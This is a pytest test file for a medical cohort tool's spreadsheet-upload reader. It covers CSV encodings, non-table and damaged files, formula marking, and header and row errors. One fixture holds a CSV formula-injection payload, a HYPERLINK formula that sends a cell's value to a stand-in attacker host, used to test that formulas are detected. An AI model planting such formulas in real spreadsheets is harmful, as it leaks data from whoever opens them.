"""Reading an uploaded spreadsheet (cohort/tables.py) on every kind of file a person may send: CSV in
the encodings and separators Excel writes, empty files, files that are not tables at all, damaged or
protected workbooks, formulas, a header or a row that does not fit, and XLSX cells as openpyxl
gives them (dates, floats). Each refusal is a TableError whose message says what to do; nothing
here touches the database."""

from __future__ import annotations

import csv
import datetime
import io
import random
import zipfile
from pathlib import Path

import openpyxl
import pytest

from cohort import tables
from cohort.tables import TableError

HEADER = ["patient", "name", "date_of_birth", "bmd_t_score"]
ROWS = [
    ["MRN-1", "José Müller", "1950-04-02", "-2.5"],
    ["MRN-2", "Zoë O’Brien", "1948-11-20", "-3.1"],
]
ACCENTED = ("José Müller", "Zoë O’Brien")  # ’ is in Windows-1252 (0x92), not in Latin-1 proper


def csv_text(header=HEADER, rows=ROWS, delimiter=",") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


@pytest.fixture
def write(tmp_path):
    """Write bytes (or text as UTF-8) to a file whose name says nothing of its content."""

    def make(content: bytes | str, name: str = "upload.bin") -> Path:
        path = tmp_path / name
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
        return path

    return make


def workbook(rows, title: str | None = None) -> openpyxl.Workbook:
    book = openpyxl.Workbook()
    sheet = book.active
    if title:
        sheet.title = title
    for row in rows:
        sheet.append(row)
    return book


def xlsx_bytes(book: openpyxl.Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def refused(path: Path) -> str:
    with pytest.raises(TableError) as caught:
        tables.read(path)
    return str(caught.value)


# -- CSV: encodings and separators -------------------------------------------------------------------


def test_utf8_without_bom_reads_accents_right_and_says_nothing_of_the_encoding(write):
    table = tables.read(write(csv_text()))
    assert (table.kind, table.columns) == ("CSV", HEADER)
    assert [row[1] for row in table.rows] == list(ACCENTED)
    assert table.rows[0] == ("MRN-1", "José Müller", "1950-04-02", "-2.5")
    assert table.notes == []


def test_utf8_with_bom_leaves_no_bom_in_the_first_column_s_name(write):
    table = tables.read(write(b"\xef\xbb\xbf" + csv_text().encode("utf-8")))
    assert table.columns[0] == "patient"
    assert [row[1] for row in table.rows] == list(ACCENTED)
    assert table.notes == []


def test_windows_1252_reads_accents_right_with_a_note_to_check_them(write):
    table = tables.read(write(csv_text().encode("cp1252")))
    assert [row[1] for row in table.rows] == list(ACCENTED)
    [note] = table.notes
    assert "not UTF-8" in note and "Windows-1252" in note and "CSV UTF-8" in note


def test_latin_1_bytes_windows_1252_lacks_still_read_as_latin_1(write):
    # 0x81 is undefined in Windows-1252: the text is then read as ISO-8859-1 (Latin-1) proper.
    raw = csv_text(rows=[["MRN-1", "Ren\xe9e\x81", "1950-04-02", "-2.5"]]).encode("latin-1")
    table = tables.read(write(raw))
    assert table.rows[0][1] == "Renée\x81"
    assert len(table.notes) == 1


def test_utf16_with_its_bom_as_excel_s_unicode_text_reads(write):
    # Excel's "Unicode Text" is UTF-16 with a BOM, tab-separated.
    table = tables.read(write(csv_text(delimiter="\t").encode("utf-16")))
    assert table.columns == HEADER
    assert [row[1] for row in table.rows] == list(ACCENTED)
    assert table.notes == []


def test_semicolon_separated_as_european_excel_writes_it(write):
    rows = [["MRN-1", "Müller, José", "1950-04-02", "-2.5"], ["MRN-2", "O’Brien, Zoë", "1948-11-20", "-3.1"]]
    table = tables.read(write(csv_text(rows=rows, delimiter=";")))
    assert table.columns == HEADER
    assert [row[1] for row in table.rows] == ["Müller, José", "O’Brien, Zoë"]  # the comma is the name's own


def test_tab_separated(write):
    table = tables.read(write(csv_text(delimiter="\t")))
    assert table.columns == HEADER
    assert table.rows[1] == ("MRN-2", "Zoë O’Brien", "1948-11-20", "-3.1")


def test_cells_are_trimmed_and_header_names_lowered(write):
    table = tables.read(write(" Patient , NAME\r\n  MRN-1 ,  Ana  \r\n"))
    assert table.columns == ["patient", "name"]
    assert table.rows == [("MRN-1", "Ana")]


def test_a_quoted_cell_with_a_line_break_is_one_row(write):
    table = tables.read(write('patient,name\r\nMRN-1,"Ana\nMaria"\r\nMRN-2,Ben\r\n'))
    assert table.rows == [("MRN-1", "Ana\nMaria"), ("MRN-2", "Ben")]
    assert [table.number(index) for index in range(2)] == [2, 3]


def test_an_unclosed_quote_names_its_line(write):
    message = refused(write('patient,name\r\nMRN-1,"Ana" Maria\r\n'))
    assert message.startswith("Line 2 of the file cannot be read as CSV") and "quotes" in message


# -- empty files ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"", id="0 bytes"),
        pytest.param(b"\xef\xbb\xbf", id="UTF-8 BOM only"),
        pytest.param(b"\xff\xfe", id="UTF-16 BOM only"),
        pytest.param(b"\r\n\r\n  \r\n", id="blank lines"),
        pytest.param(b"\r\n" * 600, id="more blank lines than the first bytes read"),
        pytest.param(b",,,\r\n,,,\r\n", id="empty cells only"),
    ],
)
def test_an_empty_file_is_refused_as_empty(write, content):
    assert refused(write(content)) == "The file is empty."


def test_a_header_without_rows_is_a_table_without_rows(write):
    # The import says "the table has a header but no rows" (cohort/importing.py).
    table = tables.read(write(csv_text(rows=[])))
    assert (table.columns, table.rows) == (HEADER, [])


def test_an_empty_workbook_is_refused(write):
    assert refused(write(xlsx_bytes(workbook([])))) == "The workbook's first sheet is empty."


# -- not a table -------------------------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"


def test_a_pdf_is_refused_as_a_pdf(write):
    message = refused(write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "cohort.csv"))
    assert message == "This is a PDF, not a table: upload the CSV or XLSX file."


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(PNG, id="PNG"),
        pytest.param(random.Random(13).randbytes(4096), id="random bytes"),
        pytest.param(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01", id="JPEG"),
    ],
)
def test_binary_data_is_refused_as_not_a_table(write, content):
    assert refused(write(content, "cohort.xlsx")) == "This is not a CSV or XLSX file: it holds binary data, not text."


def test_binary_data_without_a_zero_byte_is_refused_by_its_control_characters(write):
    # No NUL byte to give it away, and not UTF-8: it would read as Windows-1252 "text" whose header
    # is a run of control characters.
    content = bytes(range(1, 256)) * 64
    assert refused(write(content)) == "This is not a CSV or XLSX file: it holds binary data, not text."


def test_a_form_feed_or_vertical_tab_in_a_cell_is_still_text(write):
    # Some spreadsheets write a line break inside a cell as a vertical tab (\x0b).
    table = tables.read(write(csv_text(rows=[["MRN-1", "Ana\x0bMaria\x0c", "1950-04-02", "-2.5"]])))
    assert table.rows[0][1] == "Ana\x0bMaria"  # the form feed trimmed at the end, as a space would be


def test_a_web_page_saved_as_xls_is_refused_as_a_web_page(write):
    page = b"<html><body><table><tr><td>patient</td></tr><tr><td>MRN-1</td></tr></table></body></html>"
    message = refused(write(b"\xef\xbb\xbf\r\n" + page, "export.xls"))
    assert message.startswith("This is a web page or an XML file, not a table")
    assert "(.xlsx) or CSV" in message


def test_a_zip_that_is_not_a_workbook_is_refused(write):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("cohort.csv", csv_text())
    message = refused(write(buffer.getvalue(), "cohort.xlsx"))
    assert message == "This is a ZIP archive, not an XLSX workbook: upload the CSV or XLSX file itself."


def test_an_opendocument_spreadsheet_is_named_and_refused(write):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
    message = refused(write(buffer.getvalue(), "cohort.ods"))
    assert message.startswith("This is an OpenDocument spreadsheet (.ods)") and "(.xlsx)" in message


OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def test_an_excel_97_2003_workbook_is_refused_with_what_to_save_it_as(write):
    message = refused(write(OLE_HEADER + "Workbook".encode("utf-16-le"), "cohort.xls"))
    assert message.startswith("This is an Excel 97-2003 workbook (.xls)") and "(.xlsx) or as CSV" in message


def test_a_workbook_with_a_password_is_refused_as_protected_not_as_an_old_xls(write):
    # Excel keeps a password-protected .xlsx in an OLE file, beside an "EncryptedPackage" stream.
    content = OLE_HEADER + b"\x00" * 1024 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 64
    message = refused(write(content, "cohort.xlsx"))
    assert message.startswith("The workbook is protected by a password") and "without the password" in message


def good_workbook_bytes() -> bytes:
    return xlsx_bytes(workbook([HEADER, *ROWS]))


def test_a_truncated_workbook_is_refused_as_damaged(write):
    content = good_workbook_bytes()
    message = refused(write(content[: len(content) // 2], "cohort.xlsx"))
    assert message == "The file looks like an XLSX workbook but is damaged: save it again and upload that."


def test_a_workbook_whose_sheet_is_not_xml_is_refused_as_unreadable(write):
    source = zipfile.ZipFile(io.BytesIO(good_workbook_bytes()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2]  # the sheet's XML cut in the middle
            archive.writestr(item, data)
    message = refused(write(buffer.getvalue(), "cohort.xlsx"))
    assert message.startswith("The workbook cannot be read (") and message.endswith("save it again and upload that.")


def test_a_workbook_that_unpacks_to_too_much_is_refused(write, monkeypatch):
    monkeypatch.setattr(tables, "MAX_UNPACKED_BYTES", 1000)
    assert refused(write(good_workbook_bytes())).startswith("The workbook unpacks to more than")


# -- XLSX cells ------------------------------------------------------------------------------------


def test_xlsx_dates_and_numbers_read_as_they_show(write):
    book = workbook(
        [
            ["patient", "assessment_date", "bmd_t_score", "vas_pre", "height_cm", "low_energy_trauma", "weight_kg"],
            ["MRN-1", datetime.datetime(2024, 3, 1), 14.95, 8.0, 152, True, None],
            ["MRN-2", datetime.date(2024, 3, 2), -2.5, 0.1, 160.5, False, 50],
        ],
        title="fractures",
    )
    table = tables.read(write(xlsx_bytes(book)))
    assert table.kind == "XLSX"
    assert table.rows == [
        ("MRN-1", "2024-03-01", "14.95", "8", "152", "1", ""),
        ("MRN-2", "2024-03-02", "-2.5", "0.1", "160.5", "0", "50"),
    ]


def test_xlsx_reads_the_fractures_sheet_whatever_its_place(write):
    book = workbook([["about"], ["a note"]], title="readme")
    sheet = book.create_sheet("fractures")
    for row in (HEADER, *ROWS):
        sheet.append(row)
    table = tables.read(write(xlsx_bytes(book)))
    assert table.columns == HEADER and len(table.rows) == 2


def test_an_xlsx_formula_is_kept_and_marked_on_its_row_and_column(write):
    book = workbook([HEADER, ROWS[0], ["MRN-2", "Ben", "1948-11-20", "=1+2"]])
    table = tables.read(write(xlsx_bytes(book)))
    assert table.rows[1][3] == "=1+2"
    assert table.formulas == {(1, 3)}
    assert table.number(1) == 3


def test_a_csv_formula_is_kept_and_marked(write):
    rows = [ROWS[0], ["MRN-2", '=HYPERLINK("http://evil.example/?"&A1,"Ben")', "1948-11-20", "-3.1"]]
    table = tables.read(write(csv_text(rows=rows)))
    assert table.rows[1][1].startswith("=HYPERLINK(")
    assert table.formulas == {(1, 1)}


def test_an_export_s_defused_formula_reads_back_as_recorded_and_is_not_a_formula(write):
    # The exports put an apostrophe before text a spreadsheet would run (cohort/exports.py).
    rows = [["MRN-1", "'=1+2", "1950-04-02", "'-2.5"], ["MRN-2", "'@home", "1948-11-20", "-3.1"]]
    table = tables.read(write(csv_text(rows=rows)))
    assert table.rows[0][1] == "=1+2" and table.rows[0][3] == "-2.5" and table.rows[1][1] == "@home"
    assert table.formulas == set()


def test_an_apostrophe_that_does_not_defuse_a_formula_stays(write):
    table = tables.read(write(csv_text(rows=[["MRN-1", "'t Hooft", "1950-04-02", "-2.5"]])))
    assert table.rows[0][1] == "'t Hooft"


# -- the header and the rows' shape --------------------------------------------------------------------


def test_a_column_named_twice_is_refused_whatever_its_case(write):
    message = refused(write("patient,name,Patient\r\nA,B,C\r\n"))
    assert message == "The header (row 1) names the column “patient” twice."


def test_a_header_cell_without_a_name_is_refused_with_its_column_number(write):
    assert refused(write("patient,,name\r\nA,B,C\r\n")) == "Column 2 of the header (row 1) has no name."


def test_empty_columns_right_of_the_header_are_not_columns(write):
    table = tables.read(write("patient,name,,\r\nA,B,,\r\n"))
    assert table.columns == ["patient", "name"]
    assert table.rows == [("A", "B")]


def test_a_row_shorter_than_the_header_is_padded(write):
    table = tables.read(write("patient,name,sex\r\nA\r\n"))
    assert table.rows == [("A", "", "")]


def test_a_value_beyond_the_header_names_its_row_and_column(write):
    message = refused(write("patient,name\r\nA,B\r\nC,D,,surprise\r\n"))
    assert message.startswith("Row 3 has a value in column 4, which has no name in the header (“surprise”)")


def test_too_many_columns_in_the_first_row_is_refused(write, monkeypatch):
    monkeypatch.setattr(tables, "MAX_COLUMNS", 3)
    assert "has 4 columns" in refused(write("a,b,c,d\r\n1,2,3,4\r\n"))


def test_a_cell_over_the_length_limit_names_its_row_and_column(write):
    long = "x" * (tables.MAX_CELL_CHARACTERS + 1)
    message = refused(write(csv_text(rows=[ROWS[0], ["MRN-2", long, "1948-11-20", "-3.1"]])))
    assert (
        message == f"Row 3, name: the cell holds 2,001 characters; a cell takes at most {tables.MAX_CELL_CHARACTERS:,}."
    )


def test_a_cell_at_the_length_limit_is_read(write):
    exactly = "x" * tables.MAX_CELL_CHARACTERS
    assert tables.read(write(csv_text(rows=[["MRN-1", exactly, "", ""]]))).rows[0][1] == exactly


def test_more_rows_than_the_limit_is_refused_with_what_to_do(write, monkeypatch):
    monkeypatch.setattr(tables, "MAX_ROWS", 3)
    rows = [[f"MRN-{n}", "", "", ""] for n in range(4)]
    message = refused(write(csv_text(rows=rows)))
    assert message.startswith("The table has more than 3 rows. Split it into several files")
    assert len(tables.read(write(csv_text(rows=rows[:3]))).rows) == 3  # the limit itself is fine


def test_more_workbook_rows_than_the_limit_is_refused(write, monkeypatch):
    monkeypatch.setattr(tables, "MAX_ROWS", 2)
    book = workbook([HEADER, *[[f"MRN-{n}", "", "", ""] for n in range(3)]])
    assert refused(write(xlsx_bytes(book))).startswith("The table has more than 2 rows.")


# -- row numbers: as the spreadsheet shows them --------------------------------------------------------


def test_rows_are_numbered_from_2_under_a_header_in_row_1(write):
    table = tables.read(write(csv_text()))
    assert [table.number(index) for index in range(len(table.rows))] == [2, 3]
    assert len(table.numbers) == 0  # the usual table keeps no list of numbers


def test_blank_rows_between_rows_are_skipped_but_still_counted(write):
    table = tables.read(write("patient,name\r\nA,1\r\n\r\n,\r\nB,2\r\nC,3\r\n"))
    assert table.rows == [("A", "1"), ("B", "2"), ("C", "3")]
    assert [table.number(index) for index in range(3)] == [2, 5, 6]


def test_blank_lines_above_a_csv_header_are_skipped_and_counted(write):
    table = tables.read(write("\r\n,,\r\npatient,name\r\nA,1\r\nB,2\r\n"))
    assert table.columns == ["patient", "name"]
    assert table.header_number == 3
    assert [table.number(index) for index in range(2)] == [4, 5]


def test_blank_workbook_rows_above_and_between_keep_the_sheet_s_numbers(write):
    book = workbook([])
    sheet = book.active
    sheet["A3"], sheet["B3"] = "patient", "name"
    sheet["A4"], sheet["B4"] = "A", "1"
    sheet["A7"], sheet["B7"] = "B", "=1+1"
    table = tables.read(write(xlsx_bytes(book)))
    assert (table.header_number, table.rows) == (3, [("A", "1"), ("B", "=1+1")])
    assert [table.number(index) for index in range(2)] == [4, 7]
    assert table.formulas == {(1, 1)}  # by its place in rows: table.number(1) is the sheet's row 7


def test_the_message_of_a_row_after_a_blank_one_names_the_sheet_s_row(write):
    message = refused(write("patient,name\r\nA,1\r\n\r\n\r\nB,2,oops\r\n"))
    assert message.startswith("Row 5 has a value in column 3")
